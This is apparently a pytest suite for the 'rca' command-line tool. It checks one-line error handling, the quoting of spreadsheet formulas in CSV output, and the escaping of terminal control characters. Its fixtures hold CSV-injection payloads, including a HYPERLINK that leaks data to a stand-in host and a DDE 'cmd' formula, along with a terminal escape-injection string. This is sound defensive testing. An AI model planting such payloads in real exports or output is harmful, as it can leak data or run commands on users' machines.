"""The ``rca`` command under hostile data and a hostile system.

Errors end as one line and a documented exit status, never a traceback; CSV cells a
spreadsheet would run as formulas are shown as text; control characters in stored
data and file names never reach the terminal raw.
"""

from __future__ import annotations

import ast
import csv
import errno
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

import rca_analytics as rca
from rca_analytics import cli
from rca_analytics.cli import main

#: Where the package under test lives, for the subprocesses.
ROOT = Path(rca.__file__).resolve().parents[1]

#: A window title, a screen clear, an 8-bit CSI, a right-to-left override and isolate,
#: a carriage return and a DEL.
EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202etxt.exe\u2066x\u2069\rX\x7f"

#: Raw control characters a terminal would obey (tab and newline are layout).
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

JUNIT = """<testsuite name="api" tests="2" failures="1" timestamp="2026-03-01T10:00:00Z">
<testcase classname="t" name="ok" time="0.1"/>
<testcase classname="t" name="bad" time="0.2"><failure message="boom"/></testcase>
</testsuite>"""


def run(
    *args: str, stdout_closed: bool = False, **kwargs: object
) -> subprocess.CompletedProcess[str]:
    """``rca ARGS`` in a subprocess, with this checkout's package (and stdout closed)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("RCA_DEBUG", None)
    command = [sys.executable, "-m", "rca_analytics.cli", *args]
    return subprocess.run(
        ["/bin/sh", "-c", 'exec "$@" >&-', "sh", *command] if stdout_closed else command,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        check=False,
        **kwargs,
    )


@pytest.fixture
def demo_db(tmp_path: Path, demo_file: Path) -> Path:
    path = tmp_path / "demo.duckdb"
    shutil.copyfile(demo_file, path)  # demo.build's history, built once
    return path


def one_line_error(err: str) -> str:
    assert "Traceback" not in err
    assert len(err.splitlines()) == 1, err
    return err


# -- errors: one line, a documented status, never a traceback ---------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    "where",
    [
        pytest.param("file", id="onto-a-file"),
        pytest.param("file/lake", id="under-a-file"),
        pytest.param("/proc/rca-no-such-process/lake", id="under-proc"),
    ],
)
def test_export_lake_where_it_cannot_be_written_says_so_in_one_line(
    where: str, demo_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    if where.startswith("/proc") and not Path("/proc/self").exists():
        pytest.skip("no /proc here")
    (tmp_path / "file").write_text("not a folder")
    target = where if where.startswith("/") else str(tmp_path / where)
    assert main(["export", "lake", target, "--db", str(demo_db)]) == 1
    err = one_line_error(capsys.readouterr().err)
    assert err.startswith("rca: error: ")
    assert str(Path(target).parent) in err or target in err


@pytest.mark.slow
@pytest.mark.parametrize(
    ("code", "name", "said"),
    [
        pytest.param(  # as pyarrow raises it: an errno, no file name
            errno.ENOSPC,
            None,
            "cannot write {lake}: No space left on device (free some space",
            id="disk-full",
        ),
        pytest.param(
            errno.EACCES,
            "{lake}/events",
            "cannot write {lake}/events: Permission denied (check its permissions",
            id="permission-denied",
        ),
        pytest.param(
            errno.EROFS,
            "{lake}",
            "cannot write {lake}: Read-only file system (that file system is read-only",
            id="read-only",
        ),
    ],
)
def test_a_refused_write_names_the_path_and_what_to_do(
    code: int,
    name: str | None,
    said: str,
    demo_db: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    lake = tmp_path / "lake"

    def refused(*args: object, **kwargs: object) -> None:
        if name is None:
            raise OSError(code, "Error writing bytes to file")
        raise OSError(code, os.strerror(code), name.format(lake=lake))

    monkeypatch.setattr(rca.Store, "export_lake", refused)
    assert main(["export", "lake", str(lake), "--db", str(demo_db)]) == 1
    assert one_line_error(capsys.readouterr().err).startswith(
        "rca: error: " + said.format(lake=lake)
    )


@pytest.mark.slow
def test_a_full_disk_on_stdout_is_named_as_such(demo_db: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    with open("/dev/full", "w") as full:
        result = run("query", "events", "--db", str(demo_db), stdout=full)
    assert result.returncode == 1
    err = one_line_error(result.stderr)
    assert err.startswith("rca: error: cannot write standard output: No space left on device")


@pytest.mark.slow
def test_a_closed_stdout_is_named_as_such(demo_db: Path) -> None:
    if not Path("/bin/sh").exists():
        pytest.skip("no /bin/sh here")
    result = run("query", "events", "--db", str(demo_db), stdout_closed=True)
    assert result.returncode == 1
    err = one_line_error(result.stderr)
    assert err.startswith("rca: error: cannot write standard output: Bad file descriptor")


@pytest.mark.slow
def test_a_reader_that_goes_away_ends_the_command_quietly(demo_db: Path) -> None:
    read, write = os.pipe()
    os.close(read)  # `rca query ... | head` once head has exited
    try:
        result = run("query", "events", "--db", str(demo_db), stdout=write)
    finally:
        os.close(write)
    assert (result.returncode, result.stderr) == (141, "")


def test_a_bug_is_one_line_asking_for_a_report_unless_debugging(
    demo_db: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise ValueError("boom\nsecond line")

    monkeypatch.setattr(rca.Store, "suggest_links", broken)
    monkeypatch.delenv("RCA_DEBUG", raising=False)
    assert main(["suggest", "any", "--db", str(demo_db)]) == 4
    err = one_line_error(capsys.readouterr().err)
    assert "internal error: ValueError: boom second line" in err
    assert "please report" in err and "RCA_DEBUG=1" in err
    monkeypatch.setenv("RCA_DEBUG", "1")
    with pytest.raises(ValueError, match="boom"):
        main(["suggest", "any", "--db", str(demo_db)])


def test_ctrl_c_is_one_line_and_status_130(
    demo_db: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(rca.Store, "changes_before", interrupted)
    try:
        status = main(["changes", "any", "--db", str(demo_db)])
    except KeyboardInterrupt:
        pytest.fail("Ctrl-C escaped main(): a traceback")
    assert status == 130
    assert one_line_error(capsys.readouterr().err) == "rca: interrupted\n"


def test_every_exit_status_is_documented(capsys: pytest.CaptureFixture[str]) -> None:
    readme = (Path(__file__).parents[1] / "README.md").read_text()
    table = re.findall(r"^\| `(\d+)` \|", readme, flags=re.M)
    assert [int(code) for code in table] == list(cli._EXIT_STATUS)
    with pytest.raises(SystemExit):
        main(["--help"])
    help_text = capsys.readouterr().out
    assert all(f"  {code} " in help_text for code in cli._EXIT_STATUS)
    assert "RCA_DEBUG" in help_text and "RCA_DEBUG=1" in readme


# -- CSV: formulas shown as text ------------------------------------------------------

#: Cells a spreadsheet would run, as stored in investigations' descriptions.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak","click")', "+1+1", "-2+3", "@SUM(1,1)",
            "\tcmd", "\rcmd", "  =1+1", "\uff1d1+1"]  # fmt: skip


#: Cells that stay as they are (a CR inside a cell is quoted, so no new row starts there).
HARMLESS = ["plain", "a=b", "ok\r=1+1"]


@pytest.fixture
def formulas_db(store_path: Path) -> Path:
    with rca.connect(store_path) as store:
        store.add_investigations(
            [{"title": f"t{i}", "description": text, "detected_at": "2026-03-01T10:00:00Z"}
             for i, text in enumerate([*FORMULAS, *HARMLESS])]
        )  # fmt: skip
        store.add_event({"source": "ci", "event_type": "deploy", "severity": "info",
                         "timestamp": "2026-03-01T10:00:00Z", "component": "=cmd|' /C calc'!A0",
                         "source_id": "-1"})  # fmt: skip
    return store_path


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(
    formulas_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = ["--db", str(formulas_db)]
    assert main(["query", "investigations", *db, "--columns", "title,description"]) == 0
    cells = {row["title"]: row["description"] for row in csv_rows(capsys.readouterr().out)}
    expected = {f"t{i}": "'" + text for i, text in enumerate(FORMULAS)}
    expected.update({f"t{len(FORMULAS) + i}": text for i, text in enumerate(HARMLESS)})
    assert cells == expected
    out = tmp_path / "events.csv"
    assert main(["query", "events", *db, "--columns", "component,source_id", "-o", str(out)]) == 0
    with out.open(newline="") as written:
        rows = csv_rows(written.read())
    assert rows == [{"component": "'=cmd|' /C calc'!A0", "source_id": "'-1"}]


def test_raw_csv_and_json_keep_the_cells_as_stored(
    formulas_db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = ["--db", str(formulas_db), "--columns", "title,description"]
    assert main(["query", "investigations", *db, "--raw-csv"]) == 0
    raw = {row["title"]: row["description"] for row in csv_rows(capsys.readouterr().out)}
    assert [raw[f"t{i}"] for i in range(len(FORMULAS))] == FORMULAS
    assert main(["query", "investigations", *db, "--format", "json"]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    exact = {row["title"]: row["description"] for row in rows}
    assert [exact[f"t{i}"] for i in range(len(FORMULAS))] == FORMULAS


def test_only_text_cells_are_quoted_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"n": [-1.5, 2.0], "i": [-3, 4], "t": ["-1.5", None]})
    out = cli._formulas_as_text(frame)
    assert out["n"].tolist() == [-1.5, 2.0] and out["i"].tolist() == [-3, 4]
    assert out["t"].tolist()[0] == "'-1.5" and pd.isna(out["t"].tolist()[1])


def test_the_help_explains_the_formula_guard(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["query", "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "--raw-csv" in text and "formula" in text


# -- control characters: shown, never obeyed --------------------------------------------


@pytest.fixture
def hostile_db(store_path: Path) -> tuple[Path, str]:
    with rca.connect(store_path) as store:
        inv = store.add_investigation(
            {"title": "Checkout" + EVIL, "component_affected": "payments" + EVIL,
             "service_affected": "api" + EVIL, "description": "what" + EVIL,
             "detected_at": "2026-03-01T10:00:00Z", "resolved_at": "2026-03-01T11:00:00Z",
             "status": "resolved", "root_cause": "deploy" + EVIL, "tags": ["t" + EVIL]}
        )  # fmt: skip
        deploy = store.add_event(
            {"source": "ci", "event_type": "deploy", "severity": "info",
             "timestamp": "2026-03-01T09:50:00Z", "component": "payments" + EVIL,
             "service": "api" + EVIL, "source_id": "deploy" + EVIL, "tags": ["t" + EVIL],
             "data": {"message": "shipped" + EVIL}}
        )  # fmt: skip
        store.add_event(
            {"source": "logs", "event_type": "error", "severity": "critical",
             "timestamp": "2026-03-01T09:58:00Z", "component": "payments" + EVIL,
             "data": {"message": "pool exhausted" + EVIL}}
        )  # fmt: skip
        store.link(deploy.id, inv.id, confidence=0.9, reasons=["shipped before" + EVIL])
    return store_path, inv.id


@pytest.mark.slow
@pytest.mark.parametrize(
    "command",
    [
        pytest.param(["suggest"], id="suggest"),
        pytest.param(["changes"], id="changes"),
        pytest.param(["report", "postmortem", "--no-plot"], id="postmortem-md"),
        pytest.param(
            ["report", "postmortem", "--no-plot", "--format", "html"], id="postmortem-html"
        ),
    ],
)
def test_stored_control_characters_are_shown_as_escapes(
    command: list[str], hostile_db: tuple[Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    db, inv_id = hostile_db
    assert main([*command, inv_id, "--db", str(db)]) == 0
    out, err = capsys.readouterr()
    assert not RAW.search(out + err)
    assert "\\x1b" in out and "\\x07" in out and "\\x9b31m" in out and "\\u202e" in out


def test_ingest_shows_control_characters_in_file_names_as_escapes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good, cut = tmp_path / f"ok{EVIL}.xml", tmp_path / f"cut{EVIL}.xml"
    good.write_text(JUNIT)
    cut.write_text(JUNIT[:60])
    args = ["ingest", "junit", str(good), str(cut), "--db", str(tmp_path / "s.duckdb")]
    assert main([*args, "--no-progress"]) == 3
    out, err = capsys.readouterr()
    assert not RAW.search(out + err)
    assert "ok\\x1b]0;owned" in out and "rejected: " in err and "cut\\x1b]0;owned" in err
    assert main([*args, "--no-progress", "--json", "--allow-rejects"]) == 0
    out = capsys.readouterr().out
    assert not RAW.search(out)
    assert json.loads(out)["inputs"] == [str(good), str(cut)]  # machine output: exact


def test_errors_show_control_characters_as_escapes(
    hostile_db: tuple[Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    db, _ = hostile_db
    assert main(["suggest", "missing" + EVIL, "--db", str(db)]) == 1
    err = capsys.readouterr().err
    assert not RAW.search(err) and "missing\\x1b]0;owned" in err
    with pytest.raises(SystemExit):
        main(["demo", "--bogus" + EVIL])
    err = capsys.readouterr().err
    assert not RAW.search(err) and "--bogus\\x1b" in err


def test_the_command_writes_only_through_the_terminal_module() -> None:
    """One place escapes human output: no print() or stream write in cli.py itself."""
    tree = ast.parse(Path(cli.__file__).read_text())
    writes = {"print", "sys.stdout.write", "sys.stderr.write", "sys.stdout.buffer.write"}
    found = [
        f"line {node.lineno}: {ast.unparse(node.func)}"
        for node in ast.walk(tree)
        if isinstance(node, ast.Call) and ast.unparse(node.func) in writes
    ]
    assert found == []
